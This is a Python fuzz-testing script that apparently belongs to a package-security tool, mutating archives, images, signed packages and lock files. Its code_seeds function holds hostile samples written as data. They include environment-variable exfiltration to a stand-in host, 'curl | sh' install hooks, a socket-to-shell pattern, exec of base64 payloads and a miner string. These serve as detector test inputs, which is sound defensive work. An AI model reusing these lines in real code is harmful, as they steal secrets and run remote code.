# ruff: noqa: T201 - a script prints
"""Fuzz targets for the readers of packages: one for each format.

    python tests/fuzz/fuzz_packages.py TARGET|all SECONDS [SEED]

Honest and hostile packages are damaged. Whatever they are, reading ends soon, in little memory and without an exception, and
every path and fault can be printed. The first input that breaks this is written to a file, and the exit code is 1.
"""

import py_compile
import random
import resource
import signal
import sqlite3
import sys
import tempfile
import time
import traceback
from base64 import encodebytes
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from random import Random

sys.path.insert(0, str(Path(__file__).parents[1] / "packages"))
from archives import Member, zip_of
from hostile_others import HOSTILE_OTHERS
from hostile_zips import HOSTILE_ZIPS
from images import as_tar
from notations import cosigned, image, jws, signed
from programs import distribution, go_program, jar, npm, old_go_program, rust_program, shared_library
from signatures import NOW, Signing, signed_files, signed_zip, usual_chain
from test_image import HOSTILE_IMAGES

from lambdaward.model import InputError
from lambdaward.packages import Form, inspect, sbom, views
from lambdaward.packages.behaviour import Behaviour
from lambdaward.packages.lock import Project, lock_of, read_lists, read_lock, written, written_lists
from lambdaward.packages.malware import Search
from lambdaward.packages.signing import Roots, image_signatures, trust, verify
from lambdaward.packages.signing.chain import fingerprint
from lambdaward.packages.signing.reading import Reading
from lambdaward.packages.signing.verify import judge
from lambdaward.packages.unpack import Fault, Limits, walk, walk_bytes

LIMIT_SECONDS = 10
LIMIT_BYTES = 1 << 30
LIMITS = Limits(total=64 << 20, size=16 << 20)


class TooSlowError(Exception):
    """One input took longer than any input may."""


def give_up(signum: int, frame: object) -> None:
    """Stop an input that takes too long."""
    raise TooSlowError(f"more than {LIMIT_SECONDS} seconds")


def check_walk(data: bytes) -> None:
    """Walk a package and read everything."""
    with tempfile.NamedTemporaryFile(suffix=".zip") as file:
        file.write(data)
        file.flush()
        for item in walk(Path(file.name), LIMITS, verify=True):
            if isinstance(item, Fault):
                assert str(item).isprintable(), item
            else:
                assert item.path.isprintable(), item.path
                assert not {"", ".", ".."} & set(item.path.split("/")), item.path


def check_bill(data: bytes) -> None:
    """Take the bill of a package, and write it in both forms."""
    with tempfile.NamedTemporaryFile(suffix=".zip") as file:
        file.write(data)
        file.flush()
        bill = inspect(Path(file.name), LIMITS)
        for form in Form:
            sbom(bill, form)


def check_views(data: bytes) -> None:
    """Read every view of a file, by each name that calls for another one."""
    for name in ("file", "file.map"):
        for entry in walk_bytes(data, name):
            for view in views(entry):
                for window in view.windows():
                    assert 0 <= window.origin(len(window.data) // 2) <= len(data)


ROOT = usual_chain()[-1]
ROOTS = Roots({fingerprint(ROOT): "root"}, (ROOT,))


def in_file(check: Callable[[Path], object], data: bytes, suffix: str = "") -> None:
    """Check bytes as a file. An error that says what is wrong with it is an answer."""
    with tempfile.NamedTemporaryFile(suffix=suffix) as file:
        file.write(data)
        file.flush()
        with suppress(InputError):
            check(Path(file.name))


def check_signed(data: bytes) -> None:
    """Verify a signed package. Whatever is told of it can be told."""

    def told(path: Path) -> None:
        verification = verify(path, trust(NOW, ROOTS), LIMITS)
        assert all(text.isprintable() for text in verification.ambiguities)

    in_file(told, data, ".zip")


def check_message(data: bytes) -> None:
    """Judge a damaged message in whole armour, beside a digest."""
    armour = b"-----BEGIN PKCS7-----\n" + encodebytes(data) + b"-----END PKCS7-----\n"
    for file in (armour, data):
        verification = judge("package", Reading(bytes(48), 1, 1, (file,), (), (), ()), trust(NOW, ROOTS))
        assert verification.steps


def check_layout(data: bytes) -> None:
    """Tell the signatures of an image in a layout."""
    in_file(lambda path: image_signatures(path, ROOTS, NOW), data, ".tar")


def check_lock(data: bytes) -> None:
    """Read a lock, and the lists beside one."""
    in_file(lambda path: written(read_lock(path)), data)
    in_file(read_lists, data)


def layout_seeds() -> list[bytes]:
    """Images with signatures of each kind."""
    digest = image()[1]
    layouts = (signed(jws(digest), digest), signed(b"x", digest, "application/cose"), cosigned(digest, digest))
    return [as_tar(files) for files in layouts]


def lock_seeds() -> list[bytes]:
    """A lock, and the lists beside it."""
    with tempfile.NamedTemporaryFile(suffix=".zip") as file:
        file.write(signed_zip())
        file.flush()
        made = lock_of(Project(packages={"package": Path(file.name)}))
    return [written(made.lock).encode(), "".join(written_lists(made.lists)).encode()]


def program_seeds() -> list[bytes]:
    """Programs, and archives of what installers leave, each with what components are recognised by."""
    modules = "mod\texample.com/app\t(devel)\ndep\tgithub.com/a/b\tv1.0.0\th1:x\n"
    programs = [go_program(modules), old_go_program(modules), rust_program([{"name": "a", "version": "1.0.0"}])]
    programs.append(shared_library("libx.so.1", ["libc.so.6"], b"OpenSSL 3.0.13 30 Jan 2024"))
    files = {
        **npm("@a/b", "1.0.0"),
        **distribution("x", "1.0", {"x.py": b"1"}),
        "a.jar": zip_of(*_members(jar({"a": ("g", "1")}))),
    }
    return [zip_of(*_members({"bootstrap": program, **files})) for program in programs]


def _members(files: dict[str, bytes]) -> list[Member]:
    return [Member(name, data, method=0) for name, data in files.items()]


def file_seeds() -> list[bytes]:
    """Files whose formats hide text."""
    with tempfile.TemporaryDirectory() as folder:
        code = Path(folder, "m.py")
        code.write_text("A = 'text'\ndef f(x=(1, 2.5, 'deep')):\n    return {'k': b'bytes', 'n': 2 ** 99}\n")
        compiled = Path(py_compile.compile(str(code), str(code) + "c", doraise=True) or "").read_bytes()
        database = sqlite3.connect(Path(folder, "d.db"))
        database.execute("create table t (a text)")
        database.executemany("insert into t values (?)", [("x" * size,) for size in (3, 900, 9000)])
        database.commit()
        database.close()
        stored = Path(folder, "d.db").read_bytes()
    source = b'{"version":3,"sources":["a"],"sourcesContent":[null,"const a = \\"b\\";\\n"]}'
    program = shared_library("libx.so.1", ["libc.so.6"], b"constants")
    return [
        compiled,
        stored,
        source,
        program,
        "\ufeffwide text".encode("utf-16"),
        b"MZ" + "wide text".encode("utf-16-le"),
    ]


def _small(recipes: dict[str, tuple[bytes, set[str]]], mark: str = "") -> list[bytes]:
    return [data for name, (data, _) in recipes.items() if name.startswith(mark) and len(data) < 20_000]


def check_code(data: bytes) -> None:
    """Tell what code can do and does, by each name that calls for another reader. What is told can be printed."""
    for name in ("m.py", "m.js", "m.sh", "x.pth", "package.json", "m.so", "setup.py"):
        search, behaviour = Search(), Behaviour()
        for entry in walk_bytes(data, name):
            if not isinstance(entry, Fault):
                search.see(entry)
                behaviour.see(entry)
        for told in (*search.suspects(), *(sight for each in behaviour.able(()) for sight in each.sights)):
            assert str(told).isprintable(), told


def code_seeds() -> list[bytes]:
    """Code of each kind that is read closely."""
    python = (
        b"import base64, os, socket, subprocess, requests as r\nfrom os import *\nx = base64.b64decode('"
        + b"QUJD" * 20
        + b"')\n"
        b"exec(compile(x, 'a', 'exec'))\nd = {**os.environ}\nr.post('https://a.invalid', data=str(d))\n"
        b"class A(B):\n    def eval(self): getattr(os, 'system')(__import__('os').popen(f'{x!r}'))\n"
        b"with socket.socket() as s:\n    os.dup2(s.fileno(), 0)\n    subprocess.run(s.recv(9), stdin=s)\n"
    )
    script = (
        b"const {exec} = require('child_process'); eval(Buffer.from('QUJD', 'base64').toString());\n"
        b"fetch(u, {body: JSON.stringify(process.env)}); exec('curl https://a.invalid | sh'); var _0xabcd;\n"
    )
    manifest = (
        b'{"name": "a", "scripts": {"postinstall": "node -e \\"eval(x)\\" && node ./x.js", "install": "curl a | sh"}}'
    )
    lines = b"import os; exec(__import__('base64').b64decode('QQ=='))\n"
    hidden = ("x = '" + "\ufe01" * 30 + "' # \u202e (;)").encode()
    return [
        python,
        script,
        manifest,
        lines,
        hidden,
        shared_library("libx.so.1", ["libc.so.6"], b"stratum+tcp:// xmrig"),
    ]


TARGETS: dict[str, tuple[list[bytes], Callable[[bytes], None]]] = {
    "zip": (_small(HOSTILE_ZIPS), check_walk),
    "tar": (_small(HOSTILE_OTHERS, "tar"), check_walk),
    "gzip": (_small(HOSTILE_OTHERS, "gzip"), check_walk),
    "bzip2": (_small(HOSTILE_OTHERS, "bzip2"), check_walk),
    "xz": (_small(HOSTILE_OTHERS, "xz"), check_walk),
    "zstd": (_small(HOSTILE_OTHERS, "zstd"), check_walk),
    "image": ([as_tar(make()) for make, _ in HOSTILE_IMAGES.values()], check_walk),
    "components": (program_seeds(), check_bill),
    "views": (file_seeds(), check_views),
    "code": (code_seeds(), check_code),
    "signed": ([signed_zip(), signed_zip(method=0)], check_signed),
    "message": ([Signing().message(bytes(48)), *signed_files().values()], check_message),
    "layout": (layout_seeds(), check_layout),
    "lock": (lock_seeds(), check_lock),
    "ar": (_small(HOSTILE_OTHERS, "ar"), check_walk),
}


def damaged(rng: Random, data: bytes) -> bytes:
    """Bytes with a few of them changed, cut, doubled or moved; numbers at their edges."""
    result = bytearray(data)
    for _ in range(rng.choice([1, 1, 2, 3, 8])):
        at, length = rng.randrange(len(result) + 1), rng.choice([1, 2, 4, 8, 30])
        match rng.randrange(6):
            case 0:
                result[at : at + length] = rng.randbytes(length)
            case 1:
                result[at : at + length] = rng.choice([b"\xff", b"\0", b"\x80", b"\x7f"]) * length
            case 2:
                del result[at : at + length]
            case 3:
                result[at:at] = result[at : at + length] * rng.choice([1, 3])
            case 4:
                other = rng.randrange(len(result) + 1)
                result[other:other] = result[at : at + 60]
            case _:
                del result[at:]
    return bytes(result)


def run(check: Callable[[bytes], None], data: bytes) -> str:
    """Check one input; gives back the traceback when that fails."""
    signal.setitimer(signal.ITIMER_REAL, LIMIT_SECONDS)
    try:
        check(data)
    except Exception:  # noqa: BLE001 - any exception at all is the finding
        return traceback.format_exc()
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
    return ""


def fuzz(name: str, seconds: float, seed: int) -> bool:
    """Run one target for some seconds; every input has a seed of its own, counted up from the first."""
    seeds, check = TARGETS[name]
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        rng = Random(seed + count)
        data = damaged(rng, rng.choice(seeds))
        if failure := run(check, data):
            kept = Path(tempfile.gettempdir()) / f"lambdaward-fuzz-{name}-{seed + count}"
            kept.write_bytes(data)
            print(failure, f"{name}: input {count} of seed {seed} is in {kept}", sep="\n")
            return False
        count += 1
    print(f"{name}: {count} inputs, none failed")
    return True


def main(arguments: list[str]) -> int:
    """Run one target or all of them, each for its share of the seconds."""
    names = list(TARGETS) if arguments[0] == "all" else [arguments[0]]
    seconds = float(arguments[1]) / len(names)
    seed = int(arguments[2]) if len(arguments) > 2 else random.randrange(1 << 32)
    resource.setrlimit(resource.RLIMIT_AS, (LIMIT_BYTES, LIMIT_BYTES))
    signal.signal(signal.SIGALRM, give_up)
    print(f"seed {seed}", flush=True)
    good = [fuzz(name, seconds, seed) for name in names]
    return 0 if all(good) else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
